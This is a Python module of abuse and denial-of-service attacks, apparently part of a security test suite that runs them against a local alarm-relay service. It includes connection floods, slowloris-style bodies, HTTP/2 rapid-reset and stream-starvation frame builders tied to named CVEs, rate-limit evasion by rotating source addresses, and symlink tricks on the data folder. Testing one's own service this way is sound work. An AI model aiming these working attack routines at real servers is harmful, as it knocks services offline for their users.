"""What strangers and registered devices try; each is played while a canary rings.

An attack is a function that plays for some seconds and returns what should not have happened, in words.
"""
import contextlib, http.client, json, multiprocessing, os, random, selectors, socket, ssl, subprocess, threading, time

from device import Device, Refused, pair, set_alarm, words
from stage import CLAIMS, free_port, until


def sockets(port, count):
    for _ in range(count):
        one = socket.socket()
        one.setblocking(False)
        one.connect_ex(("127.0.0.1", port))
        yield one


def pipelining(relay, seconds):
    """300 connections send 256 kB of requests each without reading a byte, and begin anew when they are closed."""
    request = b"GET /v1/alarms HTTP/1.1\r\nHost: relay\r\n\r\n"
    data = memoryview(request * (262_144 // len(request)))
    end, waiting, held = time.monotonic() + seconds, selectors.DefaultSelector(), []
    for one in sockets(relay.port, 300):
        waiting.register(one, selectors.EVENT_WRITE, 0)
    while time.monotonic() < end:
        for key, _ in waiting.select(0.2):
            try:
                sent = key.data + key.fileobj.send(data[key.data:])
            except BlockingIOError:
                continue
            except OSError:
                waiting.unregister(key.fileobj)
                key.fileobj.close()
                waiting.register(next(sockets(relay.port, 1)), selectors.EVENT_WRITE, 0)
                continue
            if sent < len(data):
                waiting.modify(key.fileobj, selectors.EVENT_WRITE, sent)
            else:
                # All is sent, and nothing will be read: the connection stays open.
                waiting.unregister(key.fileobj)
                held.append(key.fileobj)


def flood(port, requests, connections, seconds):
    """Sends requests on many connections, each as soon as the last one is answered; returns the number of statuses."""
    end, waiting, seen = time.monotonic() + seconds, selectors.DefaultSelector(), {}
    for one in sockets(port, connections):
        waiting.register(one, selectors.EVENT_WRITE, b"")

    def again(key):
        waiting.unregister(key.fileobj)
        key.fileobj.close()
        waiting.register(next(sockets(port, 1)), selectors.EVENT_WRITE, b"")

    while time.monotonic() < end:
        for key, events in waiting.select(0.2):
            try:
                if events & selectors.EVENT_WRITE:
                    key.fileobj.sendall(random.choice(requests))
                    waiting.modify(key.fileobj, selectors.EVENT_READ, b"")
                    continue
                received = key.fileobj.recv(1 << 16)
            except BlockingIOError:
                continue
            except OSError:
                again(key)
                continue
            if not received:
                again(key)
                continue
            text = key.data + received
            head, found, body = text.partition(b"\r\n\r\n")
            length = next((int(line.split(b":")[1]) for line in head.lower().split(b"\r\n")
                           if line.startswith(b"content-length:")), 0)
            if not found or len(body) < length:
                waiting.modify(key.fileobj, selectors.EVENT_READ, text)
                continue
            status = int(text[9:12])
            seen[status] = seen.get(status, 0) + 1
            waiting.modify(key.fileobj, selectors.EVENT_WRITE, b"")
    return seen


def unanswered(seen):
    """An attack of which no request is answered costs nothing, and shows nothing."""
    return None if seen.get(200) else f"no request of the attack was answered, but: {seen}"


def flooding(relay, seconds):
    """A registered device asks for everything that it may see, on 500 connections at once."""
    device = Device(relay.port, relay.code())
    requests = [device.raw("GET", "/v1/alarms"), device.raw("GET", "/v1/me/export")]
    return unanswered(flood(relay.port, requests, 500, seconds))


def long_rules(relay, seconds):
    """A registered device sets 300 rules of 65,535 occurrences, and asks for the list of them on 100 connections."""
    mallory, other = Device(relay.port, relay.code()), Device(relay.port, relay.code())
    token, taken = pair(mallory, other), 0
    for number in range(300):
        with contextlib.suppress(Refused):
            set_alarm(mallory, token, time.time() - 86_400 * 365 * 5 - number, timeZone="UTC",
                      repeat=f"FREQ=DAILY;BYHOUR={every(24)};COUNT=65535")
            taken += 1
    seen = flood(relay.port, [mallory.raw("GET", "/v1/alarms")], 100, seconds)
    return unanswered(seen) if taken else "no rule was taken, and nothing attacked"


def previews(relay, seconds):
    """A registered device has the last occurrences of long rules worked out, on 100 connections."""
    mallory = Device(relay.port, relay.code())
    body = {"time": "2020-02-29T00:00:00Z", "timeZone": "UTC", "count": 50,
            "repeat": "FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=29;COUNT=65535"}
    return unanswered(flood(relay.port, [mallory.raw("POST", "/v1/schedule/preview", body)], 100, seconds))


def slow_bodies(relay, seconds):
    """1,000 connections send a body byte by byte; somebody new has to be answered all the same."""
    head = b"POST /v1/devices HTTP/1.1\r\nHost: relay\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n"
    held = list(sockets(relay.port, 1_000))
    time.sleep(0.5)
    for one in held:
        with contextlib.suppress(OSError):
            one.send(head)
    end, answers = time.monotonic() + seconds, []
    while time.monotonic() < end:
        for one in held:
            with contextlib.suppress(OSError):
                one.send(b"{")
        answers.append(relay.get("/healthz", 5))
        time.sleep(0.5)
    refused = sum(answer != 200 for answer in answers)
    return f"{refused} of {len(answers)} new clients were not answered" if refused else None


def invites(relay, seconds):
    """A registered device opens invites and cancels them as fast as it can; what ends must give its bytes back."""
    mallory, before = Device(relay.port, relay.code()), relay.database_bytes()
    end, made = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        try:
            _, invite = mallory.invite()
            mallory.call("DELETE", f"/v1/invites/{invite}")
            made += 1
        except Refused as refusal:
            if refusal.status not in (429, 503):
                return f"after {made} invites: {refusal}"
            time.sleep(0.05)
    if not made:
        return "no invite was opened"
    grown = (relay.database_bytes() - before) / 1e6
    return f"{made} invites took {grown:.0f} MB" if grown > 8 else None


def call_oneself(person, name):
    """Gives a person the name by which the letters to their contacts speak of them."""
    person.call("PUT", "/v1/check-ins/plan", {"kind": "standard", "on": False, "name": name})


def silent_webhooks(relay, seconds):
    """200 servers take a connection and say nothing; the letters of somebody else must not wait for them."""
    with socket.create_server(("127.0.0.1", 0), backlog=1024) as silent:
        url, told = f"https://127.0.0.1:{silent.getsockname()[1]}/", 0
        for _ in range(20):
            mallory, other = Device(relay.port, relay.code()), Device(relay.port, relay.code())
            token = pair(mallory, other)
            with contextlib.suppress(Refused):
                for number in range(10):
                    other.call("POST", "/v1/devices/webhook", {"webhook": f"{url}{number}"})
                    told += 1
            set_alarm(mallory, token, time.time() + 1)
        time.sleep(2)
        person, end, slowest = Device(relay.port, relay.code()), time.monotonic() + seconds, 0.0
        call_oneself(person, "Ana")
        for number in range(4):
            begin = time.monotonic()
            person.call("POST", "/v1/contacts", {"name": "Kim", "email": f"kim{number}@example.org"})
            until(lambda to=f"kim{number}@example.org": relay.mail.letters(to), "the letter comes", 60)
            slowest = max(slowest, time.monotonic() - begin)
            if time.monotonic() > end:
                break
    if told < 100:
        return f"only {told} webhooks were taken"
    return f"a letter took {slowest:.1f} s" if slowest > 2 else None


def many_letters(relay, _seconds):
    """Eight persons name the same contact again and again; the contact gets few letters."""
    to = "victim@example.org"
    for _ in range(8):
        mallory = Device(relay.port, relay.code())
        call_oneself(mallory, "Mallory")
        with contextlib.suppress(Refused):
            for number in range(10):
                named = mallory.call("POST", "/v1/contacts", {"name": f"Kim {number}", "email": to})
                # A letter to a contact who is removed before it is sent is not sent.
                if not relay.mail.letters(to):
                    until(lambda: relay.mail.letters(to), "the first letter comes", 60)
                mallory.call("DELETE", f"/v1/contacts/{named['contactId']}")
    time.sleep(2)
    count = relay.mail.letters(to)
    return None if 1 <= count <= 10 else f"{count} letters came"


def many_networks(relay, _seconds):
    """Somebody guesses codes until they are refused; guesses from 10,400 other addresses must not undo that."""
    def guess(address):
        ticket = {"kind": "enrolment", "code": "AAAA-AAAA-AAAA-AAAA"}
        body = json.dumps({"deviceKey": "A" * 43, "platform": "events", "ticket": ticket}).encode()
        with socket.create_connection(("127.0.0.1", relay.port), 5, (address, 0)) as one:
            one.sendall(b"POST /v1/devices HTTP/1.1\r\nHost: relay\r\nContent-Type: application/json\r\n"
                        b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
            return int(one.recv(64)[9:12])

    def left():
        return next((number for number in range(2 * CLAIMS) if guess("127.9.9.9") == 429), None)

    if left() is None:
        return "nobody is refused"
    for number in range(10_400):
        guess(f"127.{20 + number // 200}.{number % 200 + 1}.1")
    again = left()
    return None if again is not None and again < CLAIMS / 2 else "who was refused is not any more"


def one_code(relay, _seconds):
    """A device with one enrolment code registers others by invites of its own that it then cancels."""
    mallory, made = Device(relay.port, relay.code()), []
    for _ in range(8):
        with contextlib.suppress(Refused):
            code, invite = mallory.invite()
            made.append(Device(relay.port, {"kind": "invite", **code}))
            mallory.call("DELETE", f"/v1/invites/{invite}")
    able = []
    for number, device in enumerate(made):
        with contextlib.suppress(Refused):
            call_oneself(device, "Mallory")
        for what, body in [("contacts", {"name": "Kim", "email": f"one{number}@example.org"}),
                           ("invites", {"purpose": "partner", "ttl": 600, "verifier": "A" * 43, "hello": words()})]:
            with contextlib.suppress(Refused):
                device.call("POST", f"/v1/{what}", body)
                able.append(what)
    if not made:
        return "no device could register"
    return f"devices that nobody confirmed could make {', '.join(able)}" if able else None


# Types and flags of HTTP/2's frames, and `GET /v1/alarms` as the fields of a head (RFC 9113, section 6; RFC 7541).
HEADERS, RESET, SETTINGS, WINDOW_UPDATE, END_STREAM, END_HEADERS = 1, 3, 4, 8, 1, 4
REQUEST = b"\x82\x87\x04\x0a/v1/alarms\x01\x09localhost"


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def ask(stream):
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST)


def speaking(relay, seconds, connections, settings, play):
    """Has `play` do what it will with many connections of HTTP/2, each begun anew when it is closed."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    end, begun = time.monotonic() + seconds, []

    def one():
        while time.monotonic() < end:
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", relay.port), 5) as plain:
                with context.wrap_socket(plain) as secure:
                    if secure.selected_alpn_protocol() == "h2":
                        begun.append(1)
                    secure.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, payload=settings))
                    play(secure, end)

    threads = [threading.Thread(target=one) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return None if len(begun) >= connections else f"only {len(begun)} connections spoke HTTP/2"


def rapid_resets(relay, seconds):
    """20 connections of HTTP/2 ask and take it back at once, as fast as they can (CVE-2023-44487)."""
    def play(secure, end):
        stream = 1
        while time.monotonic() < end:
            numbers = range(stream, stream + 100, 2)
            secure.sendall(b"".join(ask(one) + frame(RESET, 0, one, (8).to_bytes(4)) for one in numbers))
            stream += 100

    return speaking(relay, seconds, 20, b"", play)


def many_streams(relay, seconds):
    """100 connections of HTTP/2 have 32 answers each under way, and take them byte by byte (CVE-2019-9511)."""
    streams = range(1, 65, 2)
    room = b"".join(frame(WINDOW_UPDATE, 0, one, (1).to_bytes(4)) for one in streams)

    def play(secure, end):
        secure.sendall(b"".join(ask(one) for one in streams))
        while time.monotonic() < end:
            secure.sendall(room)
            secure.recv(1 << 16)

    # SETTINGS_INITIAL_WINDOW_SIZE: no byte of a body before there is room for it.
    return speaking(relay, seconds, 100, (4).to_bytes(2) + (0).to_bytes(4), play)


def every_minute(relay, _seconds):
    """A partner sets alarms that ring every minute of the day."""
    mallory, other = Device(relay.port, relay.code()), Device(relay.port, relay.code())
    token, taken = pair(mallory, other), 0
    for _ in range(60):
        try:
            set_alarm(mallory, token, time.time() + 3600, timeZone="UTC",
                      repeat=f"FREQ=DAILY;BYHOUR={every(24)};BYMINUTE={every(60)}")
            taken += 1
        except Refused as refusal:
            if refusal.status != 422:
                return f"refused for another reason: {refusal}"
    return f"{taken} alarms that repeat every minute were accepted" if taken else None


def every(count):
    return ",".join(map(str, range(count)))


def bad_chunks(relay, _seconds):
    """Broken framing is the sender's fault."""
    with socket.create_connection(("127.0.0.1", relay.port), 5) as one:
        one.sendall(b"POST /v1/devices HTTP/1.1\r\nHost: relay\r\nContent-Type: application/json\r\n"
                    b"Transfer-Encoding: chunked\r\n\r\nZZ\r\n")
        one.settimeout(5)
        status = one.recv(64)[9:12]
    return None if status == b"400" else f"answered {status.decode()}"


def request_ids(relay, _seconds):
    """The identifiers of requests tell nobody how many there were."""
    connection, seen = http.client.HTTPConnection("127.0.0.1", relay.port), []
    for _ in range(20):
        connection.request("GET", "/healthz")
        answer = connection.getresponse()
        answer.read()
        seen.append(answer.headers.get("X-Request-Id", ""))
    connection.close()
    with contextlib.suppress(ValueError):
        numbers = [int(one, 16) for one in seen]
        if sorted(numbers) == numbers:
            return f"they count: {seen[0]}, {seen[1]}"
    return None if len(set(seen)) == 20 else "they repeat"


def foreign_files(relay, _seconds):
    """The relay grows no file of somebody else's, and opens no database that others can change."""
    found = []
    for name, prepare in [("a link for the reserve", link_reserve), ("a folder of mode 777", open_folder)]:
        folder = os.path.join(relay.folder, name.replace(" ", "-"))
        os.mkdir(folder, 0o700)
        victim = os.path.join(relay.folder, name.replace(" ", "-") + ".victim")
        open(victim, "w").close()
        prepare(folder, victim)
        environment = {**relay.environment, "REVEILLE_DATA": folder, "REVEILLE_LISTEN": f"127.0.0.1:{free_port()}"}
        process = subprocess.Popen([relay.binary, "serve"], env=environment, stdout=subprocess.PIPE,
                                   stderr=subprocess.STDOUT)
        try:
            said, _ = process.communicate(timeout=3)
        except subprocess.TimeoutExpired:
            process.kill()
            said, _ = process.communicate()
        if prepare is open_folder and b"chmod" not in said:
            found.append(f"{name} was accepted")
        if os.path.getsize(victim):
            found.append(f"{name}: another's file grew to {os.path.getsize(victim)} bytes")
    return "; ".join(found) or None


def link_reserve(folder, victim):
    os.symlink(victim, os.path.join(folder, "reveille.db-reserve"))


def open_folder(folder, _victim):
    os.chmod(folder, 0o777)


def apart(attack, relay, seconds):
    """Plays an attack in a process of its own, so that it slows nothing but the relay; returns what it found."""
    found = multiprocessing.get_context("fork").SimpleQueue()

    def play():
        try:
            found.put(attack(relay, seconds))
        except Exception as error:  # What an attack cannot do is told, too.
            found.put(f"the attack failed: {error!r}")

    process = multiprocessing.get_context("fork").Process(target=play)
    process.start()
    return process, found


# These play for some seconds while the canary rings; the others only look.
PLAYED = [pipelining, flooding, long_rules, previews, slow_bodies, invites, silent_webhooks, many_networks]
# The same, at a relay that speaks TLS and HTTP/2 itself.
PLAYED_ON_HTTP2 = [rapid_resets, many_streams]
LOOKED_AT = [one_code, many_letters, every_minute, bad_chunks, request_ids, foreign_files]
